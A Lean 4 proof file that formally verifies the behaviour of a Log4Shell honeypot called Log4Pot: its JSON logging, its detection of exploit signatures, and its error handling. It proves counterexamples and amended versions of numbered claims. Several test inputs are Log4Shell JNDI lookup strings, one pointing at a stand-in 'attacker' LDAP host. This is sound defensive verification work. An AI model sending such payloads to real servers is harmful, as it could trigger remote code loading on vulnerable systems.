theorem escapeStr_length_ge (s : Str) : s.length ≤ (escapeStr s).length := by
  induction s with
  | nil => simp [escapeStr]
  | cons c s ih =>
    rw [escapeStr, List.length_append]
    have := escChar_length_pos c
    simp
    omega

theorem parseStrDictRest_serStrTail (es : List (Str × Str)) : ∀ (tail : Str) (fuel : Nat),
    (serStrTail es).length ≤ fuel →
    parseStrDictRest fuel (serStrTail es ++ tail) = some (es, tail) := by
  induction es with
  | nil =>
    intro tail fuel hf
    rcases fuel with _ | fuel
    · simp [serStrTail] at hf
    · rfl
  | cons e es ih =>
    rcases e with ⟨k, v⟩
    intro tail fuel hf
    rcases fuel with _ | fuel
    · simp [serStrTail] at hf
    · simp only [serStrTail, serStrEntry, serStr, List.length_append, List.length_cons,
        List.length_singleton] at hf
      have hgek := escapeStr_length_ge k
      have hgev := escapeStr_length_ge v
      have hk : k.length < fuel := by omega
      have hv : v.length < fuel := by omega
      have hes : (serStrTail es).length ≤ fuel := by omega
      rw [show serStrTail ((k, v) :: es) ++ tail =
        ',' :: ' ' :: '"' :: (escapeStr k ++ '"' :: (':' :: ' ' :: '"' ::
          (escapeStr v ++ '"' :: (serStrTail es ++ tail)))) from by
        simp [serStrTail, serStrEntry, serStr]]
      simp only [parseStrDictRest]
      rw [parseJString_escapeStr k _ fuel hk]
      simp only []
      rw [parseJString_escapeStr v _ fuel hv]
      simp only []
      rw [ih _ fuel hes]

theorem parseStrDict_serStrDict (es : List (Str × Str)) (tail : Str) (fuel : Nat)
    (hf : (serStrDict es).length ≤ fuel) :
    parseStrDict fuel (serStrDict es ++ tail) = some (es, tail) := by
  rcases es with _ | ⟨⟨k, v⟩, es⟩
  · rfl
  · simp only [serStrDict, serStrEntry, serStr, List.length_append, List.length_cons,
      List.length_singleton] at hf
    have hgek := escapeStr_length_ge k
    have hgev := escapeStr_length_ge v
    have hk : k.length < fuel := by omega
    have hv : v.length < fuel := by omega
    have hes : (serStrTail es).length ≤ fuel := by omega
    rw [show serStrDict ((k, v) :: es) ++ tail =
      '{' :: '"' :: (escapeStr k ++ '"' :: (':' :: ' ' :: '"' ::
        (escapeStr v ++ '"' :: (serStrTail es ++ tail)))) from by
      simp [serStrDict, serStrEntry, serStr]]
    simp only [parseStrDict]
    rw [parseJString_escapeStr k _ fuel hk]
    simp only []
    rw [parseJString_escapeStr v _ fuel hv]
    simp only []
    rw [parseStrDictRest_serStrTail es _ fuel hes]

theorem parseValue_vs (s : Str) (tail : Str) (fuel : Nat) (h : s.length < fuel) :
    parseValue fuel (serStr s ++ tail) = some (.vs s, tail) := by
  rw [show serStr s ++ tail = '"' :: (escapeStr s ++ '"' :: tail) from by simp [serStr]]
  rw [show parseValue fuel ('"' :: (escapeStr s ++ '"' :: tail)) =
    parseValueCons fuel '"' (escapeStr s ++ '"' :: tail) from rfl]
  unfold parseValueCons
  rw [if_pos rfl]
  rw [parseJString_escapeStr s _ fuel h]

theorem digit_ne_delims (c : Char) (h : c.isDigit = true) : c ≠ '"' ∧ c ≠ '{' := by
  constructor
  · intro heq; rw [heq] at h; exact absurd h (by decide)
  · intro heq; rw [heq] at h; exact absurd h (by decide)

theorem natSer_digits (n : Nat) : ∀ c ∈ natSer n, c.isDigit = true := by
  intro c hc
  rw [natSer] at hc
  by_cases h0 : n = 0
  · rw [if_pos h0] at hc
    simp at hc
    rw [hc]
    decide
  · rw [if_neg h0] at hc
    exact natSerCore_digits n c hc

theorem natSer_ne_nil (n : Nat) : natSer n ≠ [] := by
  rw [natSer]
  by_cases h0 : n = 0
  · rw [if_pos h0]; simp
  · rw [if_neg h0]; exact natSerCore_ne_nil n h0

theorem parseValue_vn (n : Nat) (tail : Str) (fuel : Nat) (ht : headIsDigit tail = false) :
    parseValue fuel (natSer n ++ tail) = some (.vn n, tail) := by
  rcases hns : natSer n with _ | ⟨c, ds⟩
  · exact absurd hns (natSer_ne_nil n)
  · have hdigits := natSer_digits n
    rw [hns] at hdigits
    have hcd : c.isDigit = true := hdigits c (by simp)
    obtain ⟨h1, h2⟩ := digit_ne_delims c hcd
    rw [List.cons_append]
    rw [show parseValue fuel (c :: (ds ++ tail)) =
      parseValueCons fuel c (ds ++ tail) from rfl]
    unfold parseValueCons
    rw [if_neg h1, if_neg h2, if_pos hcd]
    have hjn := parseJNat_natSer n tail ht
    rw [hns] at hjn
    rw [show ((c :: ds : Str) ++ tail) = c :: (ds ++ tail) from rfl] at hjn
    rw [hjn]

theorem parseValue_vd (es : List (Str × Str)) (tail : Str) (fuel : Nat)
    (hf : (serStrDict es).length ≤ fuel) :
    parseValue fuel (serStrDict es ++ tail) = some (.vd es, tail) := by
  have hshape : ∃ inner, serStrDict es = '{' :: inner := by
    rcases es with _ | ⟨⟨k, v⟩, es⟩
    · exact ⟨['}'], rfl⟩
    · exact ⟨serStrEntry (k, v) ++ serStrTail es, rfl⟩
  obtain ⟨inner, hin⟩ := hshape
  rw [hin]
  rw [show parseValue fuel (('{' :: inner) ++ tail) =
    parseValueCons fuel '{' (inner ++ tail) from rfl]
  unfold parseValueCons
  rw [if_neg (by decide), if_pos rfl]
  have hd := parseStrDict_serStrDict es tail fuel hf
  rw [hin] at hd
  rw [show (('{' :: inner : Str) ++ tail) = '{' :: (inner ++ tail) from rfl] at hd
  rw [hd]

theorem headIsDigit_serFieldsTail (fs : List (Str × JValue)) (x : Str) :
    headIsDigit (serFieldsTail fs ++ x) = false := by
  cases fs <;> rfl

theorem parseValue_serValue (v : JValue) (tail : Str) (fuel : Nat)
    (hlen : (serValue v).length < fuel) (ht : headIsDigit tail = false) :
    parseValue fuel (serValue v ++ tail) = some (v, tail) := by
  cases v with
  | vs s =>
    refine parseValue_vs s tail fuel ?_
    have := escapeStr_length_ge s
    simp only [serValue, serStr, List.length_append, List.length_cons,
      List.length_singleton] at hlen
    omega
  | vn n => exact parseValue_vn n tail fuel ht
  | vd es => exact parseValue_vd es tail fuel (by simp only [serValue] at hlen; omega)

theorem parseFieldsRest_serFieldsTail (fs : List (Str × JValue)) :
    ∀ (tail : Str) (fuel : Nat), (serFieldsTail fs).length ≤ fuel →
    parseFieldsRest fuel (serFieldsTail fs ++ tail) = some (fs, tail) := by
  induction fs with
  | nil =>
    intro tail fuel hf
    rcases fuel with _ | fuel
    · simp [serFieldsTail] at hf
    · rfl
  | cons f fs ih =>
    rcases f with ⟨k, v⟩
    intro tail fuel hf
    rcases fuel with _ | fuel
    · simp [serFieldsTail] at hf
    · simp only [serFieldsTail, serField, serStr, List.length_append, List.length_cons,
        List.length_singleton] at hf
      have hgek := escapeStr_length_ge k
      have hk : k.length < fuel := by omega
      have hv : (serValue v).length < fuel := by omega
      have hes : (serFieldsTail fs).length ≤ fuel := by omega
      rw [show serFieldsTail ((k, v) :: fs) ++ tail =
        ',' :: ' ' :: '"' :: (escapeStr k ++ '"' :: (':' :: ' ' ::
          (serValue v ++ (serFieldsTail fs ++ tail)))) from by
        simp [serFieldsTail, serField, serStr]]
      simp only [parseFieldsRest]
      rw [parseJString_escapeStr k _ fuel hk]
      simp only []
      rw [parseValue_serValue v _ fuel hv (headIsDigit_serFieldsTail fs tail)]
      simp only []
      rw [ih _ fuel hes]

theorem parseObj_serRecord (fields : List (Str × JValue)) (tail : Str) (fuel : Nat)
    (hf : (serRecord fields).length ≤ fuel) :
    parseObj fuel (serRecord fields ++ tail) = some (fields, tail) := by
  rcases fields with _ | ⟨⟨k, v⟩, fs⟩
  · rfl
  · simp only [serRecord, serField, serStr, List.length_append, List.length_cons,
      List.length_singleton] at hf
    have hgek := escapeStr_length_ge k
    have hk : k.length < fuel := by omega
    have hv : (serValue v).length < fuel := by omega
    have hes : (serFieldsTail fs).length ≤ fuel := by omega
    rw [show serRecord ((k, v) :: fs) ++ tail =
      '{' :: '"' :: (escapeStr k ++ '"' :: (':' :: ' ' ::
        (serValue v ++ (serFieldsTail fs ++ tail)))) from by
      simp [serRecord, serField, serStr]]
    simp only [parseObj]
    rw [parseJString_escapeStr k _ fuel hk]
    simp only []
    rw [parseValue_serValue v _ fuel hv (headIsDigit_serFieldsTail fs tail)]
    simp only []
    rw [parseFieldsRest_serFieldsTail fs _ fuel hes]

/-- The JSON line written by `Logger.log`, parsed back, yields exactly the
record dictionary that was serialized. -/
theorem parseRecord_serRecord (fields : List (Str × JValue)) :
    parseRecord (serRecord fields) = some fields := by
  have h := parseObj_serRecord fields [] ((serRecord fields).length + 1) (by omega)
  rw [List.append_nil] at h
  rw [parseRecord, h]

/-! ### Further helper lemmas for the claim theorems -/

theorem mem_scanAll_exploit (uuid ip rl : Str) (hs : List (Str × Str)) (c : LogCall)
    (hc : c ∈ scanAll uuid ip rl hs) :
    isExploitCall c = true ∧ uuidOf c = some uuid := by
  obtain ⟨loc, text, m, _, _, hceq⟩ := mem_scanAll uuid ip rl hs c hc
  rw [hceq]
  exact ⟨rfl, rfl⟩

theorem log_f_append (l : Logger) (now : DateTime) (lt msg : Str)
    (kwargs : List (Str × JValue)) :
    (Logger.log l now lt msg kwargs).1.f =
      l.f ++ (serRecord (recordOf lt now kwargs) ++ ['\n']) := by
  rcases l with ⟨f, bb, blob⟩
  cases blob <;> simp [Logger.log]

/-! ## The claims -/

/-- Claim C1, counterexample: the claim quantifies over every accepted
request, but a request whose `Content-Length` value does not parse as an
integer aborts the handler before any scanning, so a signature present in the
request line produces zero exploit events. -/
theorem exploit_scan_skipped_on_malformed_length :
    reSearch ("GET /?x=$\x7bjndi:ldap://a\x7d HTTP/1.1".toList) =
      some ("$\x7bjndi:ldap://a\x7d".toList) ∧
    handler_do none 8080 "1.2.3.4".toList 50000 "u-1".toList
        ⟨"GET /?x=$\x7bjndi:ldap://a\x7d HTTP/1.1".toList,
          [("Content-Length".toList, ",".toList)], []⟩ =
      (respActions none "u-1".toList, some PyError.valueError) ∧
    logCalls (handler_do none 8080 "1.2.3.4".toList 50000 "u-1".toList
        ⟨"GET /?x=$\x7bjndi:ldap://a\x7d HTTP/1.1".toList,
          [("Content-Length".toList, ",".toList)], []⟩).1 = [] := by
  refine ⟨by decide, by decide, by decide⟩

/-- Claim C1 (amended): for every request whose handling completes without an
internal error, exploit events are emitted exactly for the inspectable
surfaces (request line tagged `request`, each header value tagged
`header-<name>`) on which the exploit regex matches, in surface order; each
event's payload is the regex match, a contiguous substring of the surface
text, and carries the surface's tag.  The body is not among the surfaces, so
a signature only in the body yields no exploit event. -/
theorem exploit_events_match_surfaces (sh : Option Str) (sp : Nat) (ip : Str) (cp : Nat)
    (uuid : Str) (req : Request)
    (h : (handler_do sh sp ip cp uuid req).2 = none) :
    (logCalls (handler_do sh sp ip cp uuid req).1).filter isExploitCall =
      (surfaces req.requestline req.headers).filterMap
        (fun s => (reSearch s.2).map (fun m => LogCall.exploit s.1 m uuid ip)) ∧
    ∀ loc payload u c, LogCall.exploit loc payload u c ∈
        logCalls (handler_do sh sp ip cp uuid req).1 →
      ∃ text p q, (loc, text) ∈ surfaces req.requestline req.headers ∧
        text = p ++ payload ++ q := by
  rcases handler_do_cases sh sp ip cp uuid req with ⟨logs, heq, hlogs⟩ | ⟨e, heq⟩
  · rw [heq]
    rw [heq] at h
    have hcalls : logCalls (respActions sh uuid ++ logs.map .log) = logs := by
      rw [logCalls_append, logCalls_respActions, logCalls_map_log]
      rfl
    rw [hcalls]
    have hmain : ∀ (first : LogCall), isExploitCall first = false →
        logs = first :: scanAll uuid ip req.requestline req.headers →
        logs.filter isExploitCall =
          (surfaces req.requestline req.headers).filterMap
            (fun s => (reSearch s.2).map (fun m => LogCall.exploit s.1 m uuid ip)) := by
      intro first hfirst hshape
      rw [hshape, List.filter_cons, if_neg (by simp [hfirst])]
      rw [List.filter_eq_self.mpr
        (fun c hc => (mem_scanAll_exploit uuid ip _ _ c hc).1)]
      exact scanAll_eq_filterMap uuid ip req.requestline req.headers
    constructor
    · rcases hlogs with hshape | ⟨content, hshape⟩
      · exact hmain (LogCall.request sp ip cp req.requestline req.headers uuid) rfl hshape
      · exact hmain
          (LogCall.requestBody sp ip cp req.requestline req.headers uuid content) rfl hshape
    · intro loc payload u c hmem
      have hscan : LogCall.exploit loc payload u c ∈
          scanAll uuid ip req.requestline req.headers := by
        rcases hlogs with hshape | ⟨content, hshape⟩ <;>
          rw [hshape] at hmem <;> rcases List.mem_cons.mp hmem with hbad | hok <;>
          first
            | exact absurd hbad (by simp)
            | exact hok
      obtain ⟨loc', text, m, hsurf, hsearch, hceq⟩ :=
        mem_scanAll uuid ip req.requestline req.headers _ hscan
      have hloc : loc' = loc ∧ m = payload := by
        injection hceq with h1 h2 h3 h4
        exact ⟨h1.symm, h2.symm⟩
      obtain ⟨p, q, hpq⟩ := reSearch_decomp text m hsearch
      exact ⟨text, p, q, hloc.1 ▸ hsurf, hloc.2 ▸ hpq⟩
  · rw [heq] at h
    simp at h

/-- Claim C1, witness: concrete request with a signature in one header. -/
theorem exploit_events_match_surfaces_witness :
    (logCalls (handler_do none 8080 "1.2.3.4".toList 50000 "u-1w".toList
        ⟨"GET / HTTP/1.1".toList,
          [("Host".toList, "h".toList),
           ("X-Api-Version".toList, "$\x7bjndi:ldap://attacker/a\x7d".toList)], []⟩).1).filter
        isExploitCall =
      (surfaces "GET / HTTP/1.1".toList
          [("Host".toList, "h".toList),
           ("X-Api-Version".toList, "$\x7bjndi:ldap://attacker/a\x7d".toList)]).filterMap
        (fun s => (reSearch s.2).map
          (fun m => LogCall.exploit s.1 m "u-1w".toList "1.2.3.4".toList)) :=
  (exploit_events_match_surfaces none 8080 "1.2.3.4".toList 50000 "u-1w".toList
    ⟨"GET / HTTP/1.1".toList,
      [("Host".toList, "h".toList),
       ("X-Api-Version".toList, "$\x7bjndi:ldap://attacker/a\x7d".toList)], []⟩
    (by decide)).1

/-- Claim C2, counterexample: with a failing remote blob, `Logger.log` raises
to its caller (the claim says it returns without raising), and the local
store receives exactly the one record — no exception event is appended. -/
theorem remote_failure_raises_and_unrecorded :
    (Logger.log ⟨[], [], .failing⟩ ⟨2021, 12, 10, 0, 0, 0, 0⟩ "request".toList
        "A request was received".toList []).2 = true ∧
    ((Logger.log ⟨[], [], .failing⟩ ⟨2021, 12, 10, 0, 0, 0, 0⟩ "request".toList
        "A request was received".toList []).1.f.count '\n') = 1 ∧
    (Logger.log ⟨[], [], .failing⟩ ⟨2021, 12, 10, 0, 0, 0, 0⟩ "request".toList
        "A request was received".toList []).1.blobBlocks = [] := by
  refine ⟨rfl, by decide, rfl⟩

/-- Claim C2 (amended): the local write (write plus flush) always completes —
the serialized record is appended to the local store whatever the remote
state; the call raises to its caller exactly when the configured remote blob
fails; the failure is not retried (no block reaches the remote store) and the
logger state is otherwise unchanged, so subsequent `log` calls behave
normally.  No exception event is recorded for the failure. -/
theorem log_local_first_remote_failure_raises (l : Logger) (now : DateTime)
    (lt msg : Str) (kwargs : List (Str × JValue)) :
    (Logger.log l now lt msg kwargs).1.f =
      l.f ++ (serRecord (recordOf lt now kwargs) ++ ['\n']) ∧
    ((Logger.log l now lt msg kwargs).2 = true ↔ l.blob = .failing) ∧
    (Logger.log l now lt msg kwargs).1.blob = l.blob ∧
    (l.blob = .failing →
      (Logger.log l now lt msg kwargs).1.blobBlocks = l.blobBlocks) := by
  refine ⟨log_f_append l now lt msg kwargs, ?_, ?_, ?_⟩ <;>
    · rcases l with ⟨f, bb, blob⟩
      cases blob <;> simp [Logger.log]

/-- Claim C2, witness. -/
theorem log_local_first_remote_failure_raises_witness :
    (Logger.log ⟨[], ["x".toList], .failing⟩ ⟨2021, 12, 10, 0, 0, 0, 1⟩ "start".toList
        "Log4Pot started".toList []).1.blobBlocks = ["x".toList] :=
  (log_local_first_remote_failure_raises ⟨[], ["x".toList], .failing⟩
    ⟨2021, 12, 10, 0, 0, 0, 1⟩ "start".toList "Log4Pot started".toList []).2.2.2 rfl

/-- Claim C3: every handled request emits, before anything else, the fixed
response — status 200, `Content-Type: text/json`, and the body
`\x7b "status": "ok", "id": "<correlation-id>" \x7d` — and everything after
those four actions is logging; this holds on every control path, so the
response does not depend on detection results or later failures. -/
theorem fixed_response_first_and_constant (sh : Option Str) (sp : Nat) (ip : Str)
    (cp : Nat) (uuid : Str) (req : Request) :
    (handler_do sh sp ip cp uuid req).1.take 4 =
      [Action.status 200 (sh.getD defaultServerVersion),
       Action.header "Content-Type".toList "text/json".toList,
       Action.endHeaders,
       Action.body ("\x7b \"status\": \"ok\", \"id\": \"".toList ++ uuid ++
         "\" \x7d".toList)] ∧
    ∀ a ∈ (handler_do sh sp ip cp uuid req).1.drop 4, ∃ c, a = Action.log c := by
  have hresp : respActions sh uuid =
      [Action.status 200 (sh.getD defaultServerVersion),
       Action.header "Content-Type".toList "text/json".toList,
       Action.endHeaders,
       Action.body ("\x7b \"status\": \"ok\", \"id\": \"".toList ++ uuid ++
         "\" \x7d".toList)] := rfl
  rcases handler_do_cases sh sp ip cp uuid req with ⟨logs, heq, _⟩ | ⟨e, heq⟩
  · rw [heq]
    constructor
    · rw [show (4 : Nat) = (respActions sh uuid).length from rfl, List.take_left]
      exact hresp
    · intro a ha
      rw [show (4 : Nat) = (respActions sh uuid).length from rfl,
        List.drop_left] at ha
      obtain ⟨c, _, hc⟩ := List.mem_map.mp ha
      exact ⟨c, hc.symm⟩
  · rw [heq]
    constructor
    · rw [show (4 : Nat) = (respActions sh uuid).length from rfl, List.take_length]
      exact hresp
    · intro a ha
      rw [show (4 : Nat) = (respActions sh uuid).length from rfl,
        List.drop_length] at ha
      simp at ha

/-- Claim C4, counterexample: an accepted request whose `Content-Length`
value is malformed produces zero capture events (the claim demands exactly
one per accepted connection). -/
theorem no_capture_event_on_malformed_length :
    handler_do none 8081 "10.0.0.9".toList 40000 "u-4".toList
        ⟨"POST /upload HTTP/1.1".toList,
          [("Content-Length".toList, "abc".toList)], []⟩ =
      (respActions none "u-4".toList, some PyError.valueError) ∧
    logCalls (handler_do none 8081 "10.0.0.9".toList 40000 "u-4".toList
        ⟨"POST /upload HTTP/1.1".toList,
          [("Content-Length".toList, "abc".toList)], []⟩).1 = [] := by
  exact ⟨by decide, by decide⟩

/-- Claim C4 (amended): for every request whose handling completes without an
internal error, the log calls are exactly one request-kind capture event
followed by zero or more exploit events; every one of them carries the
handler's correlation identifier, and the capture event precedes all exploit
events.  On an aborted request no events are emitted at all. -/
theorem capture_precedes_exploits_same_uuid (sh : Option Str) (sp : Nat) (ip : Str)
    (cp : Nat) (uuid : Str) (req : Request)
    (h : (handler_do sh sp ip cp uuid req).2 = none) :
    ∃ first rest, logCalls (handler_do sh sp ip cp uuid req).1 = first :: rest ∧
      isRequestCall first = true ∧ uuidOf first = some uuid ∧
      ∀ c ∈ rest, isExploitCall c = true ∧ uuidOf c = some uuid := by
  rcases handler_do_cases sh sp ip cp uuid req with ⟨logs, heq, hlogs⟩ | ⟨e, heq⟩
  · rw [heq]
    have hcalls : logCalls (respActions sh uuid ++ logs.map .log) = logs := by
      rw [logCalls_append, logCalls_respActions, logCalls_map_log]
      rfl
    rw [hcalls]
    rcases hlogs with hshape | ⟨content, hshape⟩
    · exact ⟨_, _, hshape, rfl, rfl,
        fun c hc => mem_scanAll_exploit uuid ip _ _ c hc⟩
    · exact ⟨_, _, hshape, rfl, rfl,
        fun c hc => mem_scanAll_exploit uuid ip _ _ c hc⟩
  · rw [heq] at h
    simp at h

/-- Claim C4, witness. -/
theorem capture_precedes_exploits_same_uuid_witness :
    ∃ first rest, logCalls (handler_do none 8080 "1.2.3.4".toList 50001 "u-4w".toList
        ⟨"GET /?q=$\x7benv:PATH\x7d HTTP/1.1".toList,
          [("Host".toList, "h".toList)], []⟩).1 = first :: rest ∧
      isRequestCall first = true ∧ uuidOf first = some "u-4w".toList ∧
      ∀ c ∈ rest, isExploitCall c = true ∧ uuidOf c = some "u-4w".toList :=
  capture_precedes_exploits_same_uuid none 8080 "1.2.3.4".toList 50001 "u-4w".toList
    ⟨"GET /?q=$\x7benv:PATH\x7d HTTP/1.1".toList, [("Host".toList, "h".toList)], []⟩
    (by decide)

/-- Claim C5, counterexample: the regex `\$\x7b.*\x7d` is greedy, so on
`a$\x7bx\x7db\x7d` the reported match is `$\x7bx\x7db\x7d`, although the
strictly shorter well-formed span `$\x7bx\x7d` exists; the match is therefore
not the shortest span starting at an opening marker and ending at a closing
marker. -/
theorem match_is_not_shortest_span :
    reSearch ("a$\x7bx\x7db\x7d".toList) = some ("$\x7bx\x7db\x7d".toList) ∧
    isSpanB ("a$\x7bx\x7db\x7d".toList) ("$\x7bx\x7d".toList) = true ∧
    ("$\x7bx\x7d".toList).length < ("$\x7bx\x7db\x7d".toList).length := by
  refine ⟨by decide, by decide, by decide⟩

/-- Claim C5 (amended): on a newline-free surface, the reported match — which
is exactly the payload logged by `find_exploit` — starts at the *first*
opening marker from which a closing brace is reachable and extends greedily
to the *last* closing brace: it begins with `$\x7b`, ends with `\x7d`, no
closing brace occurs after it, and no opening marker occurs before it. -/
theorem exploit_match_greedy_longest (content m : Str)
    (hnl : ('\n' : Char) ∉ content) (h : reSearch content = some m) :
    (∀ uuid ip loc, find_exploit uuid ip loc content =
      [LogCall.exploit loc m uuid ip]) ∧
    ∃ pre mid suf, content = pre ++ m ++ suf ∧ m = '$' :: '{' :: mid ++ ['}'] ∧
      (∀ c ∈ suf, c ≠ '}') ∧ ∀ p q, pre ≠ p ++ '$' :: '{' :: q := by
  refine ⟨fun u i l => ?_, reSearch_greedy_leftmost content m hnl h⟩
  rw [find_exploit, h]

/-- Claim C5, witness. -/
theorem exploit_match_greedy_longest_witness :
    (∀ uuid ip loc, find_exploit uuid ip loc ("a$\x7bx\x7db\x7d".toList) =
      [LogCall.exploit loc ("$\x7bx\x7db\x7d".toList) uuid ip]) ∧
    ∃ pre mid suf, "a$\x7bx\x7db\x7d".toList = pre ++ "$\x7bx\x7db\x7d".toList ++ suf ∧
      "$\x7bx\x7db\x7d".toList = '$' :: '{' :: mid ++ ['}'] ∧
      (∀ c ∈ suf, c ≠ '}') ∧ ∀ p q, pre ≠ p ++ '$' :: '{' :: q :=
  exploit_match_greedy_longest ("a$\x7bx\x7db\x7d".toList) ("$\x7bx\x7db\x7d".toList)
    (by decide) (by decide)

/-- Claim C6, counterexample: a request whose body bytes are not valid UTF-8
aborts the handler with the decode error: no capture event and no exception
event is recorded (the claim demands an exception event and the capture
event). -/
theorem no_events_on_undecodable_body :
    decodeUtf8 [255] = none ∧
    handler_do none 8080 "172.16.0.2".toList 45000 "u-6".toList
        ⟨"POST / HTTP/1.1".toList, [("Content-Length".toList, "1".toList)], [255]⟩ =
      (respActions none "u-6".toList, some PyError.unicodeDecodeError) ∧
    logCalls (handler_do none 8080 "172.16.0.2".toList 45000 "u-6".toList
        ⟨"POST / HTTP/1.1".toList, [("Content-Length".toList, "1".toList)], [255]⟩).1 =
      [] := by
  refine ⟨by decide, by decide, by decide⟩

/-- Claim C6 (amended): when the `Content-Length` branch is taken and the
body bytes do not decode as UTF-8, the handler aborts with the decode error
after the response was sent, and no log call of any kind — in particular
neither a capture event nor an exception event — is emitted. -/
theorem decode_failure_aborts_without_events (sh : Option Str) (sp : Nat) (ip : Str)
    (cp : Nat) (uuid : Str) (req : Request) (v : Str) (n : Int)
    (h1 : (pyDict req.headers).any (fun p => p.1 == clKey) = true)
    (h2 : msgGet req.headers clKey = some v)
    (h3 : pyInt v = some n)
    (h4 : decodeUtf8 (pyRead req.rfile n) = none) :
    handler_do sh sp ip cp uuid req =
      (respActions sh uuid, some PyError.unicodeDecodeError) ∧
    logCalls (handler_do sh sp ip cp uuid req).1 = [] := by
  have heq : handler_do sh sp ip cp uuid req =
      (respActions sh uuid, some PyError.unicodeDecodeError) := by
    simp [handler_do, h1, h2, h3, h4]
  exact ⟨heq, by rw [heq]; exact logCalls_respActions sh uuid⟩

/-- Claim C6, witness. -/
theorem decode_failure_aborts_without_events_witness :
    handler_do none 9090 "10.1.1.1".toList 46000 "u-6w".toList
        ⟨"PUT /x HTTP/1.1".toList, [("Content-Length".toList, "2".toList)],
          [200, 200]⟩ =
      (respActions none "u-6w".toList, some PyError.unicodeDecodeError) ∧
    logCalls (handler_do none 9090 "10.1.1.1".toList 46000 "u-6w".toList
        ⟨"PUT /x HTTP/1.1".toList, [("Content-Length".toList, "2".toList)],
          [200, 200]⟩).1 = [] :=
  decode_failure_aborts_without_events none 9090 "10.1.1.1".toList 46000 "u-6w".toList
    ⟨"PUT /x HTTP/1.1".toList, [("Content-Length".toList, "2".toList)], [200, 200]⟩
    "2".toList 2 (by decide) (by decide) (by decide) (by decide)

/-- Claim C7, counterexample: the server socket is bound inside
`Log4PotServerThread.__init__`, in the main thread's list comprehension, so a
bind failure on one port aborts the whole startup: no listener serves and no
exception event is recorded (the claim says the other listener continues). -/
theorem bind_failure_aborts_process :
    startProcess [⟨8080, true, .runsForever⟩, ⟨8081, false, .runsForever⟩] =
      .error ("OSError: bind".toList) := rfl

/-- Claim C7 (amended): when every bind succeeds, the listeners are
independent: an exception raised while one listener serves is logged as an
`exception` event by that listener's `run` and affects no other listener; a
bind failure instead aborts the whole process before any listener runs. -/
theorem serve_errors_isolated_per_listener (specs : List PortSpec)
    (h : ∀ sp ∈ specs, sp.bindOk = true) :
    startProcess specs = .ok (specs.map (fun sp =>
      match sp.serve with
      | .raises e => [LogCall.exception e]
      | _ => [])) :=
  startProcess_all_ok specs h

/-- Claim C7, witness. -/
theorem serve_errors_isolated_per_listener_witness :
    startProcess [⟨8080, true, .runsForever⟩, ⟨8081, true, .raises "boom".toList⟩] =
      .ok [[], [LogCall.exception ("boom".toList)]] := by
  rw [serve_errors_isolated_per_listener
    [⟨8080, true, .runsForever⟩, ⟨8081, true, .raises "boom".toList⟩] (by decide)]
  rfl

/-- Claim C8, counterexample: two headers with the same name do *not* both
appear in the logged record: `dict(headers)` collapses them, keeping a single
entry with the first value. -/
theorem duplicate_header_collapsed :
    pyDict [("X".toList, "1".toList), ("X".toList, "2".toList)] =
      [("X".toList, "1".toList)] ∧
    requestKwargs 8080 "9.8.7.6".toList 4321 "GET / HTTP/1.1".toList
        [("X".toList, "1".toList), ("X".toList, "2".toList)] "u-8".toList =
      [("correlation_id".toList, .vs ("u-8".toList)),
       ("server_port".toList, .vn 8080),
       ("client".toList, .vs ("9.8.7.6".toList)),
       ("port".toList, .vn 4321),
       ("request".toList, .vs ("GET / HTTP/1.1".toList)),
       ("headers".toList, .vd [("X".toList, "1".toList)])] := by
  refine ⟨by decide, by decide⟩

/-- Claim C8 (amended): the headers field of the capture event is
`dict(headers)`: it keeps exactly the first occurrence of each exact-case
header name, in first-occurrence order (its keys are duplicate-free), and
assigns each kept name the value of the first case-insensitive match in the
original header list. -/
theorem logged_headers_dedup_first (server_port : Nat) (client : Str) (port : Nat)
    (request uuid : Str) (headers : List (Str × Str)) :
    requestKwargs server_port client port request headers uuid =
      [("correlation_id".toList, .vs uuid), ("server_port".toList, .vn server_port),
       ("client".toList, .vs client), ("port".toList, .vn port),
       ("request".toList, .vs request),
       ("headers".toList, .vd (pyDict headers))] ∧
    pyDict headers = (dedupKeysAux [] (headers.map Prod.fst)).map
      (fun k => (k, (msgGet headers k).getD [])) ∧
    ((pyDict headers).map Prod.fst).Nodup :=
  ⟨rfl, (pyDict_characterization headers).1, (pyDict_characterization headers).2⟩

/-- Claim C9: each `Logger.log` call appends exactly one newline-terminated
record to the local store, and parsing that record back yields precisely the
dictionary that was logged: the `type` field, the `timestamp` field in
`isoformat` form, and all keyword fields (including the correlation
identifier when one was passed) in order. -/
theorem log_line_round_trip (l : Logger) (now : DateTime) (lt msg : Str)
    (kwargs : List (Str × JValue)) :
    (Logger.log l now lt msg kwargs).1.f =
      l.f ++ (serRecord (recordOf lt now kwargs) ++ ['\n']) ∧
    parseRecord (serRecord (recordOf lt now kwargs)) =
      some (("type".toList, JValue.vs lt) ::
        ("timestamp".toList, JValue.vs (isoformat now)) :: kwargs) :=
  ⟨log_f_append l now lt msg kwargs, parseRecord_serRecord _⟩

/-- Claim C10: each scanned surface yields at most one exploit event (only
the search's single match is logged, however many disjoint occurrences the
surface contains), and a surface in which no opening marker `$\x7b` is
followed by a closing `\x7d` yields none at all. -/
theorem at_most_one_exploit_per_surface (uuid ip loc content : Str) :
    (find_exploit uuid ip loc content).length ≤ 1 ∧
    (noCloseAfterOpen content = true → find_exploit uuid ip loc content = []) := by
  constructor
  · unfold find_exploit
    rcases reSearch content with _ | m <;> simp
  · intro h
    rw [find_exploit, reSearch_eq_none_of_noClose content h]

/-- Claim C10, witness: a surface holding an unterminated `$\x7b` marker. -/
theorem at_most_one_exploit_per_surface_witness :
    (find_exploit "u".toList "8.8.8.8".toList "request".toList
      ("GET /$\x7bjndi:ldap HTTP".toList)).length ≤ 1 ∧
    find_exploit "u".toList "8.8.8.8".toList "request".toList
      ("GET /$\x7bjndi:ldap HTTP".toList) = [] :=
  ⟨(at_most_one_exploit_per_surface "u".toList "8.8.8.8".toList "request".toList
      ("GET /$\x7bjndi:ldap HTTP".toList)).1,
   (at_most_one_exploit_per_surface "u".toList "8.8.8.8".toList "request".toList
      ("GET /$\x7bjndi:ldap HTTP".toList)).2 (by decide)⟩

end Log4Pot
